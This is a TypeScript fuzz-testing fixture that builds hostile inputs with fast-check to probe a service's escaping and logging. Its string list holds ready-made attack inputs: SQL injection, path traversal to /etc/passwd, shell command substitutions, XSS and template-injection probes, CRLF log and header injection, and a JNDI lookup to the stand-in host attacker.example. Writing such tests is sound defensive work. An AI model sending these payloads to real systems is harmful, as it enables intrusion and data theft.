import fc from 'fast-check';

/** Stands in what is sent, and may stand in no line of the log: nothing that somebody sends does (S16). */
export const MARK = 'f0rgedByFuzz';
/** A header that nobody but us could have put into an answer. */
export const FORGED_HEADER = 'x-forged';
export const STRANGER = 'attacker.example';

const forgedLine = `{"level":30,"time":"2026-01-01T00:00:00.000Z","msg":"${MARK}"}`;
/** What a JavaScript object has without having been given it. */
export const INHERITED = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** Texts on which readers of text have stumbled. */
export const TEXTS: readonly string[] = [
  ...['', ' ', '\t', '\u0000', `${MARK}\u0000`, '\u007f', '\ufeff', '\u00a0', '\u200b', '\u2028', '\ufffe'],
  // Half of a pair, the wrong half first, right-to-left, more marks than letters.
  ...['\ud800', `\udc00${MARK}`, 'x\ud83d', '\u202e\u2066abc\u2069', `e${'\u0301'.repeat(200)}`, '\u{1f9ff}'],
  ...[
    `\r\n${forgedLine}\r\n`,
    `\n${forgedLine}`,
    `${MARK}\r\n${FORGED_HEADER}: yes\r\n\r\n<b>`,
    '\u001b[2J\u001b[31m',
  ],
  ...INHERITED,
  ...['null', 'undefined', 'NaN', 'true', '[object Object]', '-1', '1e999', '9007199254740993', '0x10', '٣'],
  ...[
    `' or '1'='1`,
    `'; drop table sessions; --`,
    '$1',
    '\\',
    '\\u0000',
    '%',
    '%00',
    '%s%n%x',
    '%c0%ae',
    '%ff',
  ],
  ...[
    '../../../../etc/passwd',
    '..%2f..%2f',
    '..\\..\\',
    '/./',
    'file:///etc/passwd',
    'C:\\',
    '|id',
    '$(id)',
    '`id`',
  ],
  ...[`<script>${MARK}</script>`, `"><img src=x>`, `{{7*7}}`, '${7*7}', `\${jndi:ldap://${STRANGER}/a}`],
  ...[
    `https://${STRANGER}/`,
    `//${STRANGER}/`,
    `/\\${STRANGER}`,
    `javascript:${MARK}`,
    `data:text/html,${MARK}`,
  ],
];
const LENGTHS = [300, 1_100, 5_000, 20_000];

/** A hostile text, or any text at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.constantFrom(...LENGTHS).map((length) => 'x'.repeat(length)) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...TEXTS), fc.string({ maxLength: 10 }))
      .map(([a, b]) => `${b}${MARK}${a}`),
  },
);

/** Of no type that anybody asked for. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 1e308, 2 ** 53, [], {}, [[]]),
  },
  { weight: 1, arbitrary: hostileText.map((text) => [text]) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(...INHERITED).map((name) => JSON.parse(`{"${name}":{"a":1}}`) as unknown),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** In a path or a query: escaped as it should be, or half of it, or not at all. Never a character that ends the line. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  hostileText.map((text) => encodeURIComponent(text.toWellFormed())),
  hostileText.map((text) => text.replace(/[^\u0021-\u007e]/g, '').replace(/[/?#]/g, '')),
  fc.constantFrom(
    '%',
    '%%',
    '%a',
    '%ff',
    '%e0%a4%a',
    '%c0%af',
    '%2e%2e',
    '%2f',
    '%5c',
    '%00',
    '%0d%0a',
    '%u0041',
    '..;',
    '.',
  ),
);
